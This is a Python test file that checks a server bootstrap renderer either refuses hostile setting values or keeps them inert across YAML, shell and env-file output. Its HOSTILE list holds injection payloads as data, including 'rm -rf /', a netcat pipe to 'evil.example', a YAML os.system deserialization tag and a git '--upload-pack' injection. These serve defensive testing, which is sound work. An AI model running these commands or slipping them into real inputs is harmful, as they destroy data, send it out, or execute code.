"""Hostile values in every setting that reaches YAML, shell, nginx, systemd or an env file.

Each value is either refused (by the settings' validation or the renderer, with a message that
names the setting) or provably inert: cloud-init's YAML parser gives back the exact value
(render() checks every file round-trips), bash sees one literal word, and the EnvironmentFile
reads back to the exact value.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
import yaml

from components.bootstrap import (
    BootstrapError,
    env_line,
    render,
    sh_word,
    yaml_block,
    yaml_str,
)
from components.config import ConfigError
from devtools.localrun import local_target, read_env_file
from tests.bootstrap.stacks import shipped
from tests.cases import ED25519_KEY
from tests.cases import GOOD_ZONE as ZONE
from tests.variants import make_cfg

HOSTILE = [
    "it's",
    'say "hi"',
    "line1\nline2",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "a; rm -rf /",
    "a && reboot",
    "a | nc evil.example 1",
    "${HOME}",
    "$HOME",
    "back\\slash",
    "trailing\\",
    "ünïcødé",
    "emoji 😀",
    "rtl \u202e override",
    "nul\x00byte",
    "carriage\rreturn",
    "tab\tseparated",
    "line\u2028separator",
    "x" * 5000,
    "$(x)" * 1000,
    ": yaml: mapping",
    "- yaml list",
    "#not a comment",
    "{a: b}",
    "&anchor *alias",
    "!!python/object/apply:os.system ['id']",
    "---",
    "%n %s %% systemd specifiers",
    "-rf",
    "--upload-pack=touch /tmp/pwned",
    "*",
    "~root",
    "'; DROP TABLE users; --",
    " leading and trailing spaces ",
    "",
]


def bash_words(script: str) -> list[str]:
    """What bash makes of `script` followed by `printf '%s\\0'` of its words."""
    out = subprocess.run(["bash", "-c", f"set -eu; printf '%s\\0' {script}"],
                         capture_output=True, check=True, timeout=10, env={}).stdout
    return out.decode().split("\0")[:-1]


def sourced(env_file: str, key: str) -> str:
    """What bash has in `key` after sourcing `env_file` (as the server programs do)."""
    return subprocess.run(["bash", "-c", f'set -eu; . /dev/stdin; printf %s "${key}"'],
                          input=env_file, capture_output=True, text=True, timeout=10,
                          check=True).stdout


def test_at_least_twenty_hostile_values() -> None:
    assert len(HOSTILE) >= 20


@pytest.mark.parametrize("value", HOSTILE)
def test_yaml_scalar_and_block_parse_back_to_the_value(value: str) -> None:
    doc = yaml.safe_load(f"a: {yaml_str(value)}\nb: {yaml_block(value + chr(10), 2)}\n")
    assert doc == {"a": value, "b": value + "\n"}


@pytest.mark.parametrize("value", [v for v in HOSTILE if "\x00" not in v])
def test_shell_sees_one_literal_word(value: str) -> None:
    assert bash_words(sh_word(value)) == [value]


@pytest.mark.parametrize("value", [v for v in HOSTILE if "\x00" not in v and "\r" not in v])
def test_env_file_reads_back_the_value(value: str, tmp_path: Path) -> None:
    path = tmp_path / "app.env"
    path.write_text("# comment\n" + env_line("VALUE", value) + "\nOTHER=1\n")
    assert read_env_file(str(path)) == {"VALUE": value, "OTHER": "1"}


def _outcome(raw: dict[str, str]) -> str:
    """'refused: <message>' or the rendered user-data."""
    try:
        return render(make_cfg(raw)).user_data
    except (ConfigError, BootstrapError) as err:
        return f"refused: {err}"


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_app_name_is_refused(value: str) -> None:
    assert _outcome({"webstack:appName": value}).startswith("refused:")
    assert "webstack:appName" in _outcome({"webstack:appName": value})


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_hostname_is_refused(value: str) -> None:
    raw = {**ZONE, "webstack:domainHostname": f"{value}.example.com"}
    assert "webstack:domainHostname" in _outcome(raw)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_git_url_is_refused_or_one_shell_word(value: str) -> None:
    for url in (value, f"https://git.example.com/acme/{value}.git"):
        if not url.strip():
            continue  # empty appRepo means the bundled sample app: nothing to fetch
        outcome = _outcome({"webstack:appRepo": url})
        if outcome.startswith("refused:"):
            assert "webstack:appRepo" in outcome
        else:
            settings = render(make_cfg({"webstack:appRepo": url})).files[
                "/usr/local/lib/webstack/hello/settings.env"]
            assert sourced(settings, "APP_REPO") == url.strip()


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_git_ref_is_refused_or_one_shell_word(value: str) -> None:
    raw = {"webstack:appRepo": "https://git.example.com/acme/shop.git", "webstack:appRef": value}
    outcome = _outcome(raw)
    if outcome.startswith("refused:"):
        assert "webstack:appRef" in outcome
        return
    # On EC2 the ref is not in the user-data at all; local runs keep it as the default REF.
    local = render(make_cfg(raw), local_target(Path("/tmp/x"), 8080, 8443, Path("/opt/v")))
    settings = local.files["/tmp/x/usr/local/lib/webstack/hello/settings.env"]
    assert sourced(settings, "APP_REF") == value.strip()


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_env_value_is_refused_or_reaches_the_app_unchanged(
        value: str, tmp_path: Path) -> None:
    raw = {"webstack:appEnv": json.dumps([f"GREETING={value}"])}
    outcome = _outcome(raw)
    if outcome.startswith("refused:"):
        assert "webstack:appEnv" in outcome
        return
    cfg = make_cfg(raw)
    expected = cfg.app.env["GREETING"]
    content = shipped(render(cfg))["/etc/webstack/hello/app.env"]
    path = tmp_path / "app.env"
    path.write_text(content)
    assert read_env_file(str(path)) == {"GREETING": expected,
                                        "APP_DATA_DIR": "/var/lib/webstack/hello/data"}
    # The settings parser trims the KEY=value item; everything else arrives untouched.
    assert expected == f"GREETING={value}".strip().partition("=")[2]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_ssh_key_comment_is_refused_or_parses_back(value: str) -> None:
    key = f"{ED25519_KEY.rsplit(' ', 1)[0]} {value}"
    outcome = _outcome({"webstack:sshPublicKey": key})
    if outcome.startswith("refused:"):
        assert "webstack:sshPublicKey" in outcome
    else:
        assert yaml.safe_load(outcome)["ssh_authorized_keys"] == [key.strip()]
